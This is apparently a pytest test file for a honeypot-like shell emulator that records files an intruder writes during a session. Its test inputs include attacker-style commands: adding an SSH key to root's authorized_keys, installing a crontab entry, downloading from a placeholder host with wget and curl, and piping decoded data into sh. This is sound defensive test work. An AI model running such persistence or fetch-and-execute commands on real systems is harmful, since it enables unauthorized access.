"""What is written in a session is kept: byte for byte, once, and before it is gone."""

from __future__ import annotations

import base64
import random

import pytest

from eudaemon.sensor.settings import Limits
from eudaemon.world.outside import HEAD_BYTES_MAX
from eudaemon.world.shell.limits import NOTE_BYTES_MAX
from world.shell.told import Told

SIZES = (1, 4095, 4096, 4097, 65_536)
DATA = random.Random(1).randbytes(1_500_000)


def escaped(data: bytes, form: str) -> bytes:
    return b"".join(form.encode() % byte for byte in data)


@pytest.mark.parametrize("size", SIZES)
@pytest.mark.parametrize("width", [1, 127, 128, 1024])
@pytest.mark.parametrize("command", ["echo -ne '%s'", "printf '%s'", "/bin/busybox echo -en '%s'"])
def test_in_band(size: int, width: int, command: str) -> None:
    data = DATA[: min(size, width * 600)]
    form = "\\%03o" if command.startswith("printf") else "\\x%02x"
    told = Told()
    for at in range(0, len(data), width):
        line = command.encode() % escaped(data[at : at + width], form)
        assert told.run(line + (b" >> /tmp/f" if at else b" > /tmp/f")) == ""
    assert [kept.data for kept in told.finish()] == [data]


ESCAPED = {form: [form.encode() % byte for byte in range(256)] for form in ("\\x%02x", "\\%03o")}
WAYS = {
    "echo": lambda piece: [b"echo -ne '%b' >> /tmp/f" % b"".join(ESCAPED["\\x%02x"][byte] for byte in piece)],
    "printf": lambda piece: [b"printf '%b' >> /tmp/f" % b"".join(ESCAPED["\\%03o"][byte] for byte in piece)],
    "base64": lambda piece: [b"echo %b | base64 -d >> /tmp/f" % base64.b64encode(piece)],
    "document": lambda piece: [b"base64 -d >> /tmp/f <<EOF", *base64.encodebytes(piece).splitlines(), b"EOF"],
    "hexadecimal": lambda piece: [b"echo %b | xxd -r -p >> /tmp/f" % piece.hex().encode()],
}


@pytest.mark.parametrize("way", WAYS)
@pytest.mark.parametrize("size", [*SIZES, len(DATA), 10_000_000])
def test_every_size_in_every_way_cut_at_odd_places(size: int, way: str) -> None:
    cuts, data = random.Random(size), (DATA * 7)[:size]
    told, at = Told(bytes_max=Limits().session_held_bytes_max), 0
    while at < size:
        step = cuts.randint(1, 6000)
        for line in WAYS[way](data[at : at + step]):
            assert told.run(line) == ""
        at += step
    assert [kept.data for kept in told.finish()] == [data]


def test_a_text_in_a_document() -> None:
    lines = [b"line %d of a script" % number for number in range(2000)]
    told = Told()
    for line in (b"cat > /tmp/f <<'EOF'", *lines, b"EOF"):
        assert told.run(line) == ""
    assert [kept.data for kept in told.finish()] == [b"\n".join((*lines, b""))]


@pytest.mark.parametrize("size", SIZES)
def test_by_base64_in_a_document(size: int) -> None:
    told = Told()
    told.run("base64 -d > /tmp/f <<EOF")
    for line in base64.encodebytes(DATA[: min(size, 40_000)]).splitlines():
        assert told.run(line) == ""
    assert told.run("EOF") == ""
    assert [kept.data for kept in told.finish()] == [DATA[: min(size, 40_000)]]


@pytest.mark.parametrize(
    ("line", "kept"),
    [
        ("echo $a > f; rm f", [("/tmp/f", b"a\1\n", "upload")]),
        ("echo $a > f; > f", [("/tmp/f", b"a\1\n", "upload")]),
        ("echo $a > f; echo $b > f", [("/tmp/f", b"a\1\n", "upload")]),
        ("echo $a > f; mv f g; cp g h; rm g", [("/tmp/g", b"a\1\n", "upload")]),
        ("echo $a > f; echo $b > g; mv g f", [("/tmp/f", b"a\1\n", "upload")]),
        ("mkdir d; echo $a > d/f; rm -rf d", [("/tmp/d/f", b"a\1\n", "upload")]),
        ("echo echo hi > f; chmod +x f; ./f", [("/tmp/f", b"echo hi\n", "script")]),
        ("echo echo hi > f; sh f; . ./f; rm f", [("/tmp/f", b"echo hi\n", "script")]),
        ("echo -ne '\\x7fELF\\x01' > f; chmod 777 f; ./f; ./f; rm f", [("/tmp/f", b"\x7fELF\x01", "upload")]),
        ("cp /bin/busybox b; ./b; rm b; cat /bin/echo > c; > c", []),
        ("> f; rm f; touch g; rm g", []),
        ("echo $a | tee f | cat > g; rm f g", [("/tmp/f", b"a\1\n", "upload")]),
        (
            "echo $a > f; dd if=/dev/zero of=f bs=1 count=1; rm f",
            [("/tmp/f", b"a\1\n", "upload"), ("/tmp/f", b"\0", "upload")],
        ),
    ],
)
def test_it_is_kept_before_it_is_gone(line: str, kept: list[tuple[str, bytes, str]]) -> None:
    told = Told()
    told.run("cd /tmp; a=$(printf 'a\\1') b=$(printf 'b\\1')")
    told.run(line)
    assert [(one.path, one.data, one.origin) for one in told.kept] == kept


def test_the_rest_is_kept_at_the_end_once() -> None:
    told = Told()
    told.run(
        "a=$(printf 'a\\1'); echo $a > /tmp/a; echo $a > /tmp/b; "
        "echo ssh-rsa AAAA >> /root/.ssh/authorized_keys; mkdir /root/.ssh"
    )
    told.run("echo ssh-rsa AAAA >> /root/.ssh/authorized_keys; echo '* * * * * x' | crontab -")
    assert told.kept == []
    assert [(one.path, one.data) for one in told.finish()] == [
        ("/tmp/a", b"a\1\n"),
        ("/root/.ssh/authorized_keys", b"ssh-rsa AAAA\n"),
        ("/var/spool/cron/crontabs/root", b"* * * * * x\n"),
    ]


@pytest.mark.parametrize("path", ["/tmp/.nippon", "/dev/shm/x", "/tmp/a/b"])
@pytest.mark.parametrize("after", ["", "; cat {0}; rm {0}", "; > {0}", "; mv {0} /tmp/other", "; echo -n more >> {0}"])
def test_a_few_words_that_nothing_is_made_of_are_not_kept(path: str, after: str) -> None:
    told = Told()
    told.run(f"mkdir /tmp/a; echo -e '\\x6b\\x61mi{path}' > {path}{after.format(path)}")
    assert told.finish() == []


@pytest.mark.parametrize(
    "made",
    [
        "sh f", ". ./f", "source ./f", "sh < f", "cat f | sh", "chmod +x f; ./f", "chmod 755 f", "sh -c \"$(cat f)\"",
        "eval `cat f`", "base64 -d f > g", "cat f | base64 -d | sh", "xxd -r -p < f > g", "sed s/x/y/ f > g; rm g",
        "sh < f; rm f", "sh f; > f", "crontab f", "mv f /tmp/.bashrc", "cp f /tmp/x.sh",
        "mv f /tmp/run.sh; rm /tmp/run.sh",
        "mkdir cron.d; cp f cron.d/x", "echo -ne '\\x80' >> f",
        "echo -n '01234567890123456789012345678901234567890' >> f",
    ],
)  # fmt: skip
def test_a_few_words_of_which_something_is_made_are_kept(made: str) -> None:
    told = Told()
    told.run("cd /tmp; echo '>t; echo hi >/dev/null' > f")
    told.run(made)
    assert any(one.data.startswith(b">t; echo hi >/dev/null") for one in told.finish())


@pytest.mark.parametrize(("size", "kept"), [(NOTE_BYTES_MAX, False), (NOTE_BYTES_MAX + 1, True)])
def test_how_few_words_are_few(size: int, kept: bool) -> None:
    told = Told()
    told.run("echo -n " + "x" * size + " > /tmp/f")
    assert bool(told.finish()) is kept


def test_what_was_fetched_is_not_kept_again() -> None:
    small, big = DATA[:5000], DATA
    told = Told(outside={"http://192.0.2.9/s": small, "http://192.0.2.9/b": big})
    told.run(
        "cd /tmp; wget -q http://192.0.2.9/s; wget -q -O - http://192.0.2.9/s > t; curl http://192.0.2.9/s | cat > u"
    )
    told.run("wget -q http://192.0.2.9/b; wget -q -O - http://192.0.2.9/b > c; cp b d")
    assert told.run("ls -l s t u b c d | awk '{print $5}'").split() == ["5000"] * 3 + ["1500000"] * 3
    assert len(big) > HEAD_BYTES_MAX
    assert told.finish() == []
    told.run("echo more >> s")
    assert [one.data for one in told.finish()] == [small + b"more\n"]
